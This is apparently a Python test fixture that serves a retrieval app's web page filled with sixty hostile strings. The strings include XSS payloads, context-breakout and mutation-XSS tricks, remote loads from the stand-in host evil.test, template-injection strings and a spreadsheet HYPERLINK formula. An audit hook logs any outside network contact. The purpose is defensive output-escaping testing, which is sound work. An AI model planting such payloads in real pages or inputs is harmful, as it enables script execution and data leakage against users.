"""Sixty texts that try to be more than text, and a server that puts them everywhere."""

from __future__ import annotations

import json
import sys
from dataclasses import replace
from pathlib import Path

from rag.app.ui import serve
from rag.errors import InputError
from rag.library import Library
from rag.models.encoder import HashEmbedder
from rag.records import Answer, AnswerSentence, Citation, Conflict, Outcome, ShortAnswer, Span

_PWN = "window.pwned=1"
_AWAY = "http://evil.test/"

TEXTS = [
    # elements that run or load something
    f"<script>{_PWN}</script>",
    f'<script src="{_AWAY}a.js"></script>',
    f'<script type="module">import("{_AWAY}m.js");{_PWN}</script>',
    f'<img src=x onerror="{_PWN}">',
    f'<img src="{_AWAY}a.png" srcset="{_AWAY}b.png 2x">',
    f'<svg onload="{_PWN}"></svg>',
    f"<svg><script>{_PWN}</script></svg>",
    f'<svg><image href="{_AWAY}a.svg"/><use href="{_AWAY}b.svg#x"/></svg>',
    f'<svg><animate onbegin="{_PWN}" attributeName=x dur=1s></svg>',
    f'<details open ontoggle="{_PWN}">more</details>',
    f'<iframe srcdoc="<script>parent.{_PWN}</script>"></iframe>',
    f'<iframe src="{_AWAY}"></iframe>',
    f'<iframe src="javascript:parent.{_PWN}"></iframe>',
    f'<object data="{_AWAY}a.swf"></object><embed src="{_AWAY}b.swf">',
    f'<video poster="{_AWAY}p.png" src="{_AWAY}v.mp4" onerror="{_PWN}"></video>',
    f'<audio src="{_AWAY}a.mp3" autoplay></audio>',
    f'<link rel="stylesheet" href="{_AWAY}a.css"><link rel="prefetch" href="{_AWAY}b">',
    f'<meta http-equiv="refresh" content="0;url={_AWAY}">',
    f'<base href="{_AWAY}">',
    f"<style>@import url({_AWAY}a.css); * {{ display: none }}</style>",
    f'<div style="background:url({_AWAY}b.png);position:fixed;inset:0">over all</div>',
    f'<form action="{_AWAY}"><input name=a autofocus onfocus="{_PWN}"><button>Go on</button></form>',
    f'<input type=image src="{_AWAY}i.png"><body onload="{_PWN}">',
    f'<marquee onstart="{_PWN}">moving</marquee>',
    f'<gradio-app src="{_AWAY}"></gradio-app>',
    f'<portal src="{_AWAY}"></portal><fencedframe src="{_AWAY}"></fencedframe>',
    # out of what might be around it
    f"</p></div></td></body><script>{_PWN}</script>",
    f"</script><script>{_PWN}</script>",
    f"</textarea></title></style><img src=x onerror={_PWN}>",
    f'" onmouseover="{_PWN}" autofocus onfocus="{_PWN}" x="',
    f"' onmouseover='{_PWN}' x='",
    f"--><img src=x onerror={_PWN}><!--",
    f"]]><img src=x onerror={_PWN}><![CDATA[",
    f"<noscript><p title='</noscript><img src=x onerror={_PWN}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_PWN}>",
    f'<svg></p><style><a id="</style><img src=x onerror={_PWN}>">',
    f"<template><img src=x onerror={_PWN}></template>",
    f"<scr<script>ipt>{_PWN}</scr</script>ipt>",
    f"<img src=x onerror&#61;{_PWN}> &lt;img src=x onerror={_PWN}&gt; &#60;b&#62;",
    f"%3Cimg%20src=x%20onerror={_PWN}%3E \\u003cimg src=x onerror={_PWN}\\u003e",
    # templates, Markdown, mathematics
    f"${{{_PWN}}} {{{{constructor.constructor('{_PWN}')()}}}} <%= {_PWN} %> #{{{_PWN}}}",
    f"`${{{_PWN}}}` ```js\n{_PWN}\n```",
    "C:\\users\\nobody \\u{zz} \\x4 export A=${HOME} `tick`",
    f"![picture]({_AWAY}a.png) ![p][1] [1]: {_AWAY}b.png",
    f"[click](javascript:{_PWN}) <javascript:{_PWN}>",
    f"[click](data:text/html,<script>{_PWN}</script>)",
    f"{_AWAY}c www.evil.test who@evil.test *bold* _it_ # head",
    f"$\\href{{javascript:{_PWN}}}{{x}}$ \\(\\url{{{_AWAY}}}\\) $$\\includegraphics{{{_AWAY}a.png}}$$",
    "[9] A source that is none (#src-1) [^1]: note",
    "| a | b |\n| --- | --- |\n| 1 | 2 |",
    # names that the page's own script might trip over
    "<form id=ragPage name=ragPage><input name=mount></form>",
    "<a id=src-1 name=src-1></a><p id=rag-answer></p>",
    '{"error": "none", "__type__": "update", "value": "<b>x</b>"}',
    # text that is just strange
    "\u202e backwards \u2066 isolated \u200f\u200b zero width \ufeff",
    "Z\u0351\u0301\u0300\u0310a\u0315\u0317l\u0313\u0348g\u030bo\u0321 e\u0301",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f600",
    "＜script＞window.pwned=1＜/script＞ ‹img› \u2028 line \u2029 paragraph",
    '=HYPERLINK("http://evil.test") +1+1 -1 @SUM(A1) \t tab',
    "x" * 300 + " " + "wide " * 20,
    "  two  spaces,\n\n  new lines \n and a tab\t at the end.",
]
assert len(set(TEXTS)) == 60

ASK_ALL = "Show everything."
REFUSE = "Refuse: "
FAIL = "Fail."
REPORTED = [Outcome(text, "failed", text) for text in TEXTS]


class Everything:
    """An answerer that says all the texts at once, in each place where an answer has text; or fails with them."""

    def __init__(self, library: list[Library]) -> None:
        self._library = library

    def answer(self, question, hits, *_, **__):
        question = question.text
        if question == FAIL:
            raise InputError("\n".join(TEXTS))
        if question.startswith(REFUSE):
            return Answer(question, abstained=True, reason="\n".join(TEXTS), nearest=tuple(hits))
        document = self._library[0].document("all.txt")
        passages = [document.passage(Span(at, at + len(t))) for t in TEXTS if (at := document.text.index(t)) >= 0]
        citations = tuple(
            replace(Citation.of(passage, passage.span, number), title=text, speaker=text, section=text)
            for number, (passage, text) in enumerate(zip(passages, TEXTS, strict=True), 1)
        )
        sentences = tuple(AnswerSentence(c.quote, (c.number,), c.quote) for c in citations)
        conflicts = tuple(Conflict(text, (1, 2)) for text in TEXTS)
        return Answer(question, sentences, citations, ShortAnswer(TEXTS[0], 1, citations[0].span), conflicts=conflicts)


class Reporting(Library):
    """A library whose reports name files that no upload could bring: Gradio changes their names."""

    def add(self, *files, **options):
        report = super().add(*files, **options)
        return replace(report, outcomes=(*report.outcomes, *REPORTED))


def file_names() -> list[str]:
    """The texts as file names: what no file system takes is left out."""
    return [f"{text.replace('/', '∕')[:80].strip()}.txt" for text in TEXTS]


def _note_foreign(event: str, arguments: tuple[object, ...]) -> None:
    """Note whom this process looks up or speaks to, other than itself."""
    if event in {"socket.getaddrinfo", "socket.gethostbyname", "socket.connect", "socket.sendto"}:
        address = arguments[0] if event.startswith("socket.get") else arguments[1]
        host = address[0] if isinstance(address, tuple) else address
        if host not in {"127.0.0.1", "localhost", "::1", "", None, "0.0.0.0"}:
            with Path(sys.argv[1], "foreign.jsonl").open("a") as file:
                file.write(json.dumps([event, repr(host)]) + "\n")


def main() -> None:
    """Serve the page over the texts; argv: a folder to keep everything in."""
    folder = Path(sys.argv[1])
    sys.addaudithook(_note_foreign)
    (folder / "docs").mkdir()
    (folder / "docs" / "all.txt").write_text("\n\n".join(TEXTS), "utf-8", newline="")
    for number, name in enumerate(file_names()):
        (folder / "docs" / name).write_text(f"Note {number} of the ledger has few words.\n")
    libraries: list[Library] = []
    with Reporting.open(folder / "index", embedder=HashEmbedder(), answerer=Everything(libraries)) as library:
        libraries.append(library)
        library.index(folder / "docs")
        serve(library, port=0, with_token=False)


if __name__ == "__main__":
    main()
